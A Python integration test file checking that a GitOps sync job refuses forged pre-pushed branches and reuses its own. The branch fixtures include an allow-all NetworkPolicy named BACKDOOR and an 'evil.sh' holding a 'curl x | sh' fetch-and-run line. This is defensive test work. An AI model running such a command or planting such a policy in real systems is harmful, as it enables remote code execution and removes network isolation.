"""Finding 2 of issue 16, the branch half: someone with push access to a tenant's repository (another tenant
pointing at it, say) pre-pushes `secureguard/*` branches for SecureGuard's next pull request to build on.
An existing branch is used only when it is exactly the one commit SecureGuard makes on top of the base."""

from __future__ import annotations

from pathlib import Path

import pytest

from jobs.integrations.gitops.naming import AUTHOR_EMAIL
from models.db import session_scope
from models.queries import gitops as gitops_queries
from tests.builders import make_tenant
from tests.fakes.git_providers import FakeProviders
from tests.fakes.gitops_fixtures import (
    POLICY_YAML,
    add_policy,
    configure,
    git,
    make_bare_repo,
    push_commit,
    run_job,
)
from tests.integration.conftest import running_worker

pytestmark = pytest.mark.integration
BRANCH = "secureguard/bookinfo-reviews-v1"
PATH = "networkpolicies/bookinfo/reviews.yaml"
BACKDOOR = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: allow-all}\nspec: {podSelector: {}}\n"


@pytest.mark.parametrize("forged", [
    "extra file",            # our file plus an allow-all policy beside it
    "two commits",           # the allow-all first, then exactly our commit on top
    "not from base",         # exactly our file, on history that does not start from main
    "other author",          # exactly our change, committed by someone else
])
async def test_a_pre_pushed_foreign_branch_is_refused_and_left_alone(
    tmp_path: Path, fake_providers: FakeProviders, forged: str
) -> None:
    bare = make_bare_repo(tmp_path)
    ours = {PATH: POLICY_YAML}
    if forged == "extra file":
        head = push_commit(bare, BRANCH, files={**ours, "networkpolicies/bookinfo/allow-all.yaml": BACKDOOR},
                           email=AUTHOR_EMAIL)
    elif forged == "two commits":
        push_commit(bare, BRANCH, files={"networkpolicies/bookinfo/allow-all.yaml": BACKDOOR}, email=AUTHOR_EMAIL)
        head = push_commit(bare, BRANCH, files=ours, on=BRANCH, email=AUTHOR_EMAIL)
    elif forged == "not from base":
        push_commit(bare, "elsewhere", files={"README.md": "policies\n", "evil.sh": "curl x | sh\n"}, on=None)
        head = push_commit(bare, BRANCH, files=ours, on="elsewhere", email=AUTHOR_EMAIL)
    else:
        head = push_commit(bare, BRANCH, files=ours, email="mallory@bravo.test")
    acme = await make_tenant("acme")
    await configure(acme.tenant_id, bare)
    policy = await add_policy(acme.tenant_id)
    async with running_worker():
        done = await run_job("sync_gitops", acme.tenant_id, {"policy_id": policy.id})
    assert done.status == "failed"
    assert f"branch {BRANCH} already exists in the repository and is not the one SecureGuard makes" in done.error
    assert git(bare, "rev-parse", BRANCH).strip() == head
    assert fake_providers.calls("POST", "/pulls") == []
    async with session_scope() as session:
        assert await gitops_queries.list_pulls(session, tenant_id=acme.tenant_id) == []
        shipped = await gitops_queries.get_policy(session, tenant_id=acme.tenant_id, policy_id=policy.id or 0)
    assert shipped.status == "approved"


async def test_our_own_branch_is_reused_after_the_base_moved_on(tmp_path: Path, fake_providers: FakeProviders) -> None:
    bare = make_bare_repo(tmp_path)
    acme = await make_tenant("acme")
    await configure(acme.tenant_id, bare)
    policy = await add_policy(acme.tenant_id)
    async with running_worker():
        first = await run_job("sync_gitops", acme.tenant_id, {"policy_id": policy.id}, key="first")
        for n in range(3):  # others merge work into main meanwhile
            push_commit(bare, "main", files={f"docs/{n}.md": f"{n}\n"})
        again = await run_job("sync_gitops", acme.tenant_id, {"policy_id": policy.id}, key="again")
    assert first.status == again.status == "succeeded", again.error
    assert again.result["reused"] is True and again.result["pushed"] is False
    assert again.result["commit"] == first.result["commit"] == git(bare, "rev-parse", BRANCH).strip()
    assert len(fake_providers.calls("POST", "/pulls")) == 1

